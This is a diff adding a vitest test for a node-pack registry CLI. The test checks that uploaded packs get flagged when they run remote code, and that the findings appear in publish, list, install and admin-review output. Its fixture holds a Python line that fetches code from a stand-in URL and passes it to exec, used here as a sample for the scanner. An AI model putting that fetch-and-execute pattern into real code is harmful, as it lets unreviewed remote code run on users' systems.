@@ -1,0 +1,55 @@
+import { expect, test } from 'vitest';
+import { regen } from '../../support/cli.js';
+import { packForTest } from '../../support/packs.js';
+import { publisherForTest, serviceForTest } from '../../support/service.js';
+
+test('the findings of a version are listed one by one, with their rules, wherever they are shown', async () => {
+  const service = await serviceForTest();
+  const { personalAccessToken } = await publisherForTest(service);
+  const env = {
+    REGEN_BASE_URL: service.url,
+    REGEN_TOKEN: service.ownerToken,
+    REGEN_PUBLISH_TOKEN: personalAccessToken,
+  };
+  const run = (argv: string, terminal = false) => regen(argv.split(' '), { env, terminal });
+  const code =
+    'import os, requests, subprocess\ndef load(): exec(requests.get("https://example.com/x.py").text)\nsubprocess.run(["ls"])\n';
+  const folder = packForTest({ files: { '__init__.py': `${code}NODE_CLASS_MAPPINGS = {}\n` } });
+
+  const refused = await run(`version publish ${folder} --allow-empty`);
+  expect(refused.stderr).toContain('hidden until an admin of the registry approves it');
+  const flagged = await run(`version publish ${folder} --allow-empty --allow-findings`);
+  const [remote, started] = [
+    '__init__.py:2: Runs code that is read from the network. (remote-code)',
+    '__init__.py:3: Starts another program. (subprocess, only noted)',
+  ];
+  expect(flagged.stderr).toContain(
+    `error: pack 1.0.0 was uploaded, is Flagged, and waits for a review by an admin.\n  ${remote}\n  ${started}\n`,
+  );
+  expect(flagged.stderr).toMatch(/hint: If the verdict is wrong, ask an admin/);
+
+  const { stdout } = await run('version get pack 1.0.0 --reasons --json');
+  expect(JSON.parse(stdout)).toMatchObject([
+    { where: '__init__.py:2', rule: 'remote-code', severity: 'high' },
+    { where: '__init__.py:3', rule: 'subprocess', severity: 'low', detail: 'Starts another program.' },
+  ]);
+  expect((await run('version list pack --reasons')).stdout.split('\n')[0]).toBe(
+    '1.0.0\tNodeVersionStatusFlagged\t__init__.py:2\tremote-code\tRuns code that is read from the network.\thigh',
+  );
+  for (const argv of ['version list pack', 'version history pack 1.0.0', 'admin review'])
+    expect((await run(argv, true)).stdout, argv).toContain(`${remote.replace('2:', '2')} (and 1 more)`);
+
+  const absent = await run(`node install pack --into ${folder}`);
+  expect([absent.exit, absent.stderr]).toEqual([
+    3,
+    expect.stringContaining(
+      'The node pack has no version to install; its only version, 1.0.0, is flagged: __init__.py:2 Runs',
+    ),
+  ]);
+  const approved = await run('admin review pack@1.0.0 --approve');
+  expect(approved.stdout).toContain('NodeVersionStatusActive\t__init__.py:2 Runs code');
+  const explained = await regen(['admin', 'review', 'pack@1.0.0', '--approve', '--reason', 'It is ours'], {
+    env,
+  });
+  expect(explained.stdout).toMatch(/\tIt is ours\\n__init__\.py:2 .*\\n__init__\.py:3 [^\\]*\n$/);
+});
